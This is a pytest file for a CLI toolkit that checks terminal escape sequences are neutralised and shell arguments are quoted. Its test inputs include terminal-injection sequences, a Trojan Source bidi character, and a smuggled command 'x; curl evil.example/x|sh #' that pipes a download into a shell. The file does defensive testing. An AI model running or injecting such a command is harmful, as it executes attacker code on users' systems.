"""What the CLI prints: escape sequences defused, text kept, commands quoted."""

from __future__ import annotations

import shlex

import pytest

from custodes.clikit import shell_command, terminal_safe

R = "\ufffd"


@pytest.mark.parametrize("raw, shown", [
    ("k-\x1b]0;owned\x07x", f"k-{R}x"),                 # OSC (set title), BEL-terminated
    ("k-\x1b]8;;http://evil\x1b\\link", f"k-{R}link"),  # OSC 8 hyperlink, ST-terminated
    ("k-\x9d0;owned\x9cx", f"k-{R}x"),                  # the same in 8-bit controls
    ("\x1b[2J\x1b[1;1Hfake", f"{R}{R}fake"),            # CSI: clear the screen, move the cursor
    ("\x9b31mred", f"{R}red"),                          # 8-bit CSI
    ("a\x1bcb", f"a{R}b"),                              # ESC c: reset the terminal
    ("ok\rFAKE", f"ok{R}FAKE"),                         # CR: overwrite the line
    ("\x1b]0;no end\nnext line", f"{R}\nnext line"),    # an unended OSC stops at the line's end
    ("col\tcol\nrow", "col\tcol\nrow"),                 # tab and newline stay
    ("rm\u202e-rf", f"rm{R}-rf"),                       # bidi override (Trojan Source)
    ("Kim Minji 김민지", "Kim Minji 김민지"),               # text is text
])
def test_terminal_safe(raw, shown):
    assert terminal_safe(raw) == shown


def test_shell_command_keeps_each_word_one_argument():
    line = shell_command("custodes", "guard", "revoke", "--kid", "x; curl evil.example/x|sh #")
    assert shlex.split(line) == ["custodes", "guard", "revoke", "--kid", "x; curl evil.example/x|sh #"]
    assert shell_command("custodes", "offboard", "e-ex", "--apply") == "custodes offboard e-ex --apply"
